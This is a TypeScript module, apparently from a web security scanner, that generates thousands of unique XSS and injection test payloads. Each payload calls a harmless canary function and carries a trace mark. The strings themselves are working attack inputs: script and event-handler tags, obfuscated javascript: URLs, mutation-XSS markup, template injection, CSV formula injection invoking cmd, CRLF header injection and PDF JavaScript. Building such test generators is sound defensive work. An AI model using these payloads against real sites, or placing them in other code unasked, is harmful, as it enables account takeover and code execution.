// Goal S6: words that try to become more than words. Made from parts, so that a thousand of them are a thousand different ones; each calls the canary
// with its own number and carries that number as a mark in plain letters, so that it is found again wherever it comes out.

export type Payload = {
  readonly number: number
  readonly shape: string
  readonly context: string
  readonly text: string
}

/** What stands in every payload whatever else is done to it: its number, between marks that nobody types. */
export const markOf = (number: number): string => `zq${number}qz`

/** The numbers of the payloads that stand in this text. */
export const marksIn = (text: string): number[] => [
  ...new Set([...text.matchAll(/zq(\d+)qz/g)].map(([, number]) => Number(number))),
]

type Call = (number: number) => string
type Part = (call: string, number: number) => string

const encoded = (text: string) => Buffer.from(text).toString('base64')
const asEntities = (text: string) => [...text].map((one) => `&#${one.codePointAt(0)};`).join('')
const asHexadecimal = (text: string) => [...text].map((one) => `&#x${one.codePointAt(0)?.toString(16)}`).join(';')

/** Ways to say the same call; the canary is a function of the window. */
const calls: readonly Call[] = [
  (n) => `__ran(${n})`,
  (n) => `window['__ran'](${n})`,
  (n) => `top.__ran(${n})`,
  (n) => `self[\`__ran\`](${n})`,
  (n) => `[${n}].forEach(__ran)`,
  (n) => `eval(atob('${encoded(`__ran(${n})`)}'))`,
  (n) => `setTimeout('__ran(${n})')`,
  (n) => `Function('__ran(${n})')()`,
  (n) => `\\u005f\\u005fran(${n})`,
  (n) => `(onerror=__ran,${n})&&__ran(${n})`,
  (n) => `alert(${n});__ran(${n})`,
  (n) => `globalThis['__'+'ran'](${n})`,
]

/** What ends the place where a careless page puts words, before the own part begins. */
const exits: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</svg>',
  '</option></select>',
  ']]>',
  '&quot;>',
  '\u2028">',
  '\\">',
  '"/>',
]

const html: Readonly<Record<string, Part>> = {
  script: (call) => `<script>${call}</script>`,
  'script of mixed letters': (call) => `<ScRiPt\t>${call}</sCrIpT\n>`,
  'script with a slash': (call) => `<script/x>${call}</script/y>`,
  'script from data': (call) => `<script src="data:text/javascript,${encodeURIComponent(call)}"></script>`,
  'script of a module': (call) => `<script type=module>${call}</script>`,
  'half a script': (call) => `<<script>${call}//<</script>`,
  picture: (call) => `<img src=x onerror=${unspaced(call)}>`,
  'picture with a slash': (call) => `<img/src="x"/onerror='${single(call)}'>`,
  'picture in entities': (call) => `<img src=x onerror="${asEntities(call)}">`,
  'picture in hexadecimal': (call) => `<img src=x onerror="${asHexadecimal(call)}">`,
  'picture of another set': (call) => `<img srcset="x 1x" onerror="${double(call)}">`,
  sound: (call) => `<audio src onerror="${double(call)}">`,
  video: (call) => `<video><source onerror="${double(call)}"></video>`,
  fold: (call) => `<details open ontoggle="${double(call)}">x</details>`,
  body: (call) => `<body onload="${double(call)}">`,
  'field in focus': (call) => `<input autofocus onfocus="${double(call)}">`,
  'list in focus': (call) => `<select autofocus onfocus="${double(call)}">`,
  movement: (call) => `<b style="animation:spin 1s" onanimationstart="${double(call)}">x</b>`,
  pointer: (call) => `<p onpointerover="${double(call)}" onclick="${double(call)}">x</p>`,
  frame: (call) => `<iframe src="javascript:${double(call)}"></iframe>`,
  'frame with a page': (call) => `<iframe srcdoc="&lt;script&gt;parent.${entity(call)}&lt;/script&gt;"></iframe>`,
  object: (call) => `<object data="javascript:${double(call)}"></object>`,
  embedded: (call) => `<embed src="javascript:${double(call)}">`,
  link: (call) => `<a href="javascript:${double(call)}">x</a>`,
  'link with a tab': (call) => `<a href="jav&#x09;ascript:${double(call)}">x</a>`,
  'link of data': (call) => `<a href="data:text/html;base64,${encoded(`<script>${call}</script>`)}">x</a>`,
  form: (call) => `<form action="javascript:${double(call)}"><button>x</button></form>`,
  button: (call) => `<button formaction="javascript:${double(call)}">x</button>`,
  base: (_, n) => `<base href="https://elders${n}.invalid/">`,
  refresh: (_, n) => `<meta http-equiv="refresh" content="0;url=https://elders${n}.invalid/">`,
  'sheet of style': (_, n) => `<link rel="stylesheet" href="https://elders${n}.invalid/x.css">`,
  style: (_, n) => `<style>@import "https://elders${n}.invalid/x.css";</style>`,
  'style of an element': (_, n) => `<p style="background:url(//elders${n}.invalid/x)">x</p>`,
  svg: (call) => `<svg onload="${double(call)}">`,
  'svg with script': (call) => `<svg><script>${entity(call)}</script></svg>`,
  'svg that moves': (call) => `<svg><animate onbegin="${double(call)}" attributeName=x dur=1s></animate></svg>`,
  'svg that sets': (call) =>
    `<svg><a><set attributeName=href to="javascript:${double(call)}"></set><text>x</text></a></svg>`,
  'svg with html': (call) => `<svg><foreignObject><img src=x onerror="${double(call)}"></foreignObject></svg>`,
  math: (call) => `<math href="javascript:${double(call)}">x</math>`,
  'math that changes': (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${entity(call)}&gt;">`,
  'template that changes': (call) => `<template><p title="</template><img src=x onerror='${single(call)}'>">`,
  'noscript that changes': (call) => `<noscript><p title="</noscript><img src=x onerror='${single(call)}'>">`,
  'form that changes': (call) => `<form><math><mtext></form><form><mglyph><svg><img src onerror='${single(call)}'>`,
  'list that changes': (call) => `<select><template><option></select><img src=x onerror='${single(call)}'>`,
  'a custom element': (call) => `<x-y tabindex=1 autofocus onfocus="${double(call)}">x</x-y>`,
}

const single = (call: string) => call.replaceAll("'", '&#39;')
const double = (call: string) => call.replaceAll('"', '&quot;')
const entity = (call: string) => call.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
const unspaced = (call: string) => call.replaceAll(' ', '').replaceAll('>', '&gt;')

/** Words that are dangerous in another place than the text of a page. */
const elsewhere: Readonly<Record<string, Part>> = {
  'attribute of an event': (call) => `" onfocus="${call}" autofocus tabindex="1" x="`,
  'attribute between single marks': (call) => `' onpointerover='${call}' x='`,
  'attribute without marks': (call) => `x onerror=${unspaced(call)} src=x`,
  'address of script': (call) => `javascript:${call}`,
  'address of mixed letters': (call) => `JaVaScRiPt:${call}`,
  'address with a line end': (call) => `java\nscript:${call}`,
  'address with a space before it': (call) => `\u00a0javascript://%0a${call}`,
  'address of data': (call) => `data:text/html,<script>${call}</script>`,
  'address of elsewhere': (_, n) => `//elders${n}.invalid/`,
  'text of a script': (call) => `';${call};//`,
  'text of a script between double marks': (call) => `";${call};//`,
  'text of a template of script': (call) => `\${${call}}`,
  'line end of a script': (call) => `\u2029${call}\u2028`,
  'template of a frame': (call) => `{{constructor.constructor("${call}")()}}`,
  'template of a server': (call) => `<%= ${call} %>#{${call}}`,
  'entities of a tag': (call) => `&lt;img src=x onerror=${call}&gt;`,
  'entities twice': (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  'numbers of a tag': (call) => `${asEntities('<script>')}${call}${asHexadecimal('</script>')};`,
  'escapes of a tag': (call) => `\\u003cscript\\u003e${call}\\x3c/script\\x3e`,
  'percent signs of a tag': (call) => `%3Cscript%3E${call}%3C%2Fscript%3E`,
  'seven bits of a tag': (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  'wide letters of a tag': (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  'a mark of text that joins': (call) => `<img\u034f src=x onerror=${unspaced(call)}>`,
  'value of a style': (call) => `;width:expression(${call});background:url("javascript:${call}")`,
  'text of json': (call) => `"}]}</script><script>${call}</script>`,
  'text from right to left': (call) => `\u202e<script>${call}</script>\u2066`,
  'a width of nothing': (call) => `<\u200bscript>${call}</script>`,
  'a mark of order': (call) => `\ufeff<script>${call}</script>`,
  'formula of a link': (_, n) => `=HYPERLINK("https://elders${n}.invalid/","x")`,
  'formula with a plus': (_, n) => `+1+cmd|' /C calc'!A${n}`,
  'formula with a minus': (_, n) => `-2+3+cmd|' /C calc'!A${n}`,
  'formula with an at': (_, n) => `@SUM(A1:A${n})`,
  'formula behind a tab': (_, n) => `\t=1+${n}`,
  'cell that ends': (_, n) => `x",=1+${n},"`,
  'header of a mail': (_, n) => `x\r\nBcc: iemand${n}@elders.invalid`,
  'header of a page': (_, n) => `x\r\nSet-Cookie: n=${n}`,
  'header in percent signs': (_, n) => `x%0d%0aX-Elders: ${n}`,
  'name of a file': (_, n) => `../../x"; filename="${n}.html`,
  'text of a pdf': (call) => `) /OpenAction << /S /JavaScript /JS (${call}) >> (`,
  nothing: (call) => `<img src=x\u0000 onerror=${unspaced(call)}>`,
}

/** What comes behind words that no exit stands in front of. */
const tails: readonly string[] = ['', 'x', ' x', '\u200b', 'é', '😀', '\tx', "'", '"', '`', '<', '&']

const pick = <T>(all: readonly T[], at: number): T => all[at % all.length] as T

const shapes = [...Object.entries(html), ...Object.entries(elsewhere)]

/** The shape of this turn with this number in it. The first thousand turns and more are as many shapes: each part with another exit or tail, and another call. */
export function payload(number: number, turn: number): Payload {
  const [name, part] = pick(shapes, turn)
  const round = Math.floor(turn / shapes.length)
  const [exit, tail] = name in html ? [pick(exits, round), ''] : ['', pick(tails, round)]
  const call = pick(calls, round + Math.floor(round / calls.length) + turn)(number)
  const shape = `${name} ${exit} ${tail} ${(round + turn) % calls.length}`
  return { number, shape, context: name, text: `${exit}${part(call, number)}${markOf(number)}${tail}` }
}

const short: readonly Part[] = [
  (_, n) => `<svg onload=__ran(${n})>`,
  (_, n) => `"><svg onload=__ran(${n})>`,
  (_, n) => `' onload=__ran(${n}) '`,
  (_, n) => `javascript:__ran(${n})`,
  (_, n) => `=1+${n}`,
]

/** For a field that takes a name only. */
export const shortPayload = (number: number, turn: number): Payload => ({
  number,
  shape: `short ${turn % short.length}`,
  context: 'short',
  text: `${pick(short, turn)('', number)}${markOf(number)}`,
})

/** Names of the places that payloads are made for. */
export const contexts: readonly string[] = shapes.map(([name]) => name)
